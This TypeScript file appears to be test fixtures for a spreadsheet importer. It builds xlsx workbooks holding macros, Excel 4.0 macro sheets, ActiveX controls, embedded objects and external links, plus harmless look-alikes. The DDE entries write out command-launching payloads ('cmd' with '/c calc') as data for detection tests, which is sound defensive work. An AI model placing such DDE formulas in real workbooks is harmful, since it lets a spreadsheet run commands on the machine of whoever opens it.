// Knows the books that carry something that could run or lead out: macros of both kinds, controls, embedded objects, links, questions to other programs.
import { strToU8 } from 'fflate'
import type { HostileBook } from './hostile-book.ts'
import { packParts, rewrite, sheetPart, soundParts } from './sound-book.ts'

const types = '[Content_Types].xml'
const office = 'application/vnd.openxmlformats-officedocument'
const macroMain = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'

type More = Readonly<{ parts?: Readonly<Record<string, string>>; types?: string; link?: string; main?: string; cell?: string }>
const made = (more: More) => async () => {
  const parts = await soundParts()
  for (const [name, text] of Object.entries(more.parts ?? {})) parts[name] = strToU8(text)
  if (more.types) rewrite(parts, types, (xml) => xml.replace('</Types>', `${more.types}</Types>`))
  if (more.main) rewrite(parts, types, (xml) => xml.replace(`${office}.spreadsheetml.sheet.main+xml`, more.main ?? ''))
  if (more.link) rewrite(parts, 'xl/_rels/workbook.xml.rels', (xml) => xml.replace('</Relationships>', `${more.link}</Relationships>`))
  if (more.cell) rewrite(parts, sheetPart, (xml) => xml.replace(/<c r="C3">.*?<\/c>/, more.cell ?? ''))
  return packParts(parts)
}
const override = (part: string, type: string): string => `<Override PartName="/${part}" ContentType="${type}"/>`
const externalLink = '<Relationship Id="rId90" Type="http://x/externalLink" Target="externalLinks/externalLink1.xml"/>'

const macros: readonly (readonly [string, More])[] = [
  ['macros (.xlsm)', { main: macroMain, parts: { 'xl/vbaProject.bin': 'x' } }],
  ['macros in a book that is called one without', { parts: { 'xl/vbaProject.bin': 'x' } }],
  [
    'macros under another name, by their kind',
    { parts: { 'xl/settings.dat': 'x' }, types: '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>' },
  ],
  ['signed macros in capital letters', { parts: { 'XL/VBAPROJECTSIGNATURE.BIN': 'x' } }],
  ['a sheet of macros of Excel 4.0', { parts: { 'xl/macrosheets/sheet9.xml': '<xm:macrosheet xmlns:xm="m"/>' } }],
  [
    'a sheet of macros of Excel 4.0 beside the others',
    {
      parts: { 'xl/worksheets/sheet9.xml': '<macrosheet/>' },
      types: override('xl/worksheets/sheet9.xml', 'application/vnd.ms-excel.macrosheet+xml'),
    },
  ],
  [
    'a sheet that is a dialog',
    { parts: { 'xl/sheet9.xml': '<dialogsheet/>' }, types: override('xl/sheet9.xml', `${office}.spreadsheetml.dialogsheet+xml`) },
  ],
  ['a control of ActiveX', { parts: { 'xl/activeX/activeX1.xml': '<ax:ocx xmlns:ax="a"/>' } }],
  ['an embedded object', { parts: { 'xl/embeddings/oleObject1.bin': 'x' } }],
  ['an embedded book', { parts: { 'xl/embeddings/Microsoft_Excel_Worksheet.xlsx': 'x' } }],
]

const links: readonly (readonly [string, More])[] = [
  [
    'a question to another program (DDE)',
    {
      link: externalLink,
      parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' },
    },
  ],
  ['a formula that starts a program (DDE)', { cell: `<c r="C3"><f>cmd|'/C calc'!A0</f><v>2468</v></c>` }],
  [
    'a link to a book on a server',
    {
      link: externalLink,
      parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>' },
      cell: `<c r="C3"><f>'[1]様式２'!B2+0</f><v>2468</v></c>`,
    },
  ],
  ['a formula of a book that is not named', { cell: `<c r="C3"><f>SUM([1]Sheet1!A1)</f><v>2468</v></c>` }],
]

const harmless: readonly (readonly [string, More])[] = [
  [
    'a book called one with macros, from which they were taken out',
    { main: macroMain, types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' },
  ],
  ['a formula that asks the network', { cell: '<c r="C3"><f>WEBSERVICE("http://example.invalid/?"&amp;B2)</f><v>2468</v></c>' }],
  ['a connection to a database', { parts: { 'xl/connections.xml': '<connections><connection odbcFile="\\\\host\\x"/></connections>' } }],
  ['a table whose columns are years', { cell: '<c r="C3"><f>SUM(予算[2024])</f><v>2468</v></c>' }],
]

const booksOf = (rows: readonly (readonly [string, More])[], meets: string): readonly HostileBook[] =>
  rows.map(([name, more]) => ({ name, meets, make: made(more) }))

export const runningBooks: readonly HostileBook[] = [
  ...booksOf(macros, 'E-IMPORT-12'),
  ...booksOf(links, 'linked'),
  ...booksOf(harmless, 'read'),
]
